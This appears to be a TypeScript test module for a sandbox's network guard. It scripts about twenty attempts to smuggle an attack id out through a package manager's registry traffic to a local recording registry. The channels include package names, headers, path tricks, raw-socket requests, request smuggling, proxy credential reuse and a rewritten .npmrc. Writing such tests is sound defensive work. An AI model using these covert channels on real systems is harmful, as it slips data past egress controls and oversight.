/** What code of the desk tries while a package manager beside it may fetch from a registry, which notes everything. */
import type { Step } from '../../support/scripted-tasks.ts';
import type { Attack } from './attacks.ts';
import type { Place } from './world.ts';

/** A folder whose name says nothing about the attack: what a command names may be asked for. */
const folderOf = ({ id }: Place): string => `p-${id.split('').toReversed().join('')}`;
const INSTALL = 'npm install --no-audit --no-fund --fetch-retries=0';

/** Code that asks the registry for something that carries the id of the attack. */
function beside(code: (place: Place, registry: string) => string, install = `${INSTALL} & node send.mjs; wait`) {
  return (place: Place): Step[] => {
    const folder = folderOf(place);
    const file = (name: string, content: string): Step => ({ tool: 'files.write', path: `${folder}/${name}`, content });
    return [
      file('package.json', JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { 'left-pad': '1.0.0' } })),
      file('send.mjs', code(place, `http://127.0.0.1:${place.tcp}/`)),
      { tool: 'shell', line: `cd ${folder}; ${install}` },
    ];
  };
}

const get = (path: (id: string) => string) => beside(({ id }, registry) => `await fetch('${registry}${path(id)}')`);
const sent = (options: (id: string) => object) =>
  beside(({ id }, registry) => `await fetch('${registry}left-pad', ${JSON.stringify(options(id))})`);
/** A request whose every byte is chosen, through the proxy where there is one. */
const raw = (lines: (id: string) => string) =>
  beside(
    ({ id }, registry) => `import { connect } from 'node:net';
    const proxy = process.env.HTTP_PROXY ? new URL(process.env.HTTP_PROXY) : null;
    const to = proxy ?? new URL('${registry}');
    const basic = proxy && Buffer.from(decodeURIComponent(proxy.username) + ':' + decodeURIComponent(proxy.password)).toString('base64');
    const socket = connect(Number(to.port), to.hostname);
    const [first, ...rest] = ${JSON.stringify(lines(id).split('\n'))};
    socket.end([first.replace(' /', ' ' + (proxy ? '${registry}' : '/')), 'Host: x', ...(basic ? ['Proxy-Authorization: Basic ' + basic] : []), ...rest].join('\\r\\n'));
    await new Promise((done) => socket.on('close', done).resume());`,
  );

export const packageAttacks: Attack[] = (
  [
    ['the name of a package', get((id) => id)],
    ['the scope of a package', get((id) => `@${id}/x`)],
    ['an encoded name', get((id) => `%40x%2f${id}`)],
    ['a version', get((id) => `left-pad/${id}`)],
    ['the name of a tarball', get((id) => `left-pad/-/left-pad-${id}.tgz`)],
    ['a folder before the package', get((id) => `${id}/left-pad`)],
    ['a path that is resolved', get((id) => `left-pad/..;${id}/`)],
    ['a query', get((id) => `left-pad?${id}`)],
    ['a search', get((id) => `-/v1/search?text=${id}`)],
    ['a header', sent((id) => ({ headers: { 'x-data': id } }))],
    ['the name of the client', sent((id) => ({ headers: { 'user-agent': id } }))],
    ['the kind of answer', sent((id) => ({ headers: { accept: `text/${id}` } }))],
    ['a condition', sent((id) => ({ headers: { 'if-none-match': `"${id}"` } }))],
    ['a language', sent((id) => ({ headers: { 'accept-language': id } }))],
    ['a method of its own', raw((id) => `${id.toUpperCase()} /left-pad HTTP/1.1\n\n${id}`)],
    ['the body of a GET', raw((id) => `GET /left-pad HTTP/1.1\nContent-Length: ${id.length}\n\n${id}`)],
    ['a second request behind the first', raw((id) => `GET /left-pad HTTP/1.1\n\nGET /${id} HTTP/1.1\n\n`)],
    [
      'a question about vulnerabilities',
      beside(
        ({ id }, registry) =>
          `await fetch('${registry}-/npm/v1/security/advisories/bulk', { method: 'POST', body: '{"${id}":["1.0.0"]}' })`,
      ),
    ],
    [
      'a manifest that is written while the step runs',
      beside(
        ({ id }, registry) => `import { appendFileSync, writeFileSync } from 'node:fs';
        appendFileSync('.npmrc', 'registry=${registry}\\n'); // where no guard has set one
        writeFileSync('package.json', JSON.stringify({ name: 'x', version: '1.0.0', dependencies: { '${id}': '1.0.0' } }))`,
        `node send.mjs; ${INSTALL}; rm package.json`,
      ),
    ],
    [
      'a package that the code installs itself',
      beside(
        ({ id }, registry) => `import { spawnSync } from 'node:child_process';
        spawnSync('npm', ['install', '--registry=${registry}', '--fetch-retries=0', '${id}'])`,
      ),
    ],
  ] as [string, (place: Place) => Step[]][]
).map(([name, steps]) => ({ name, effect: 'sent', steps }));
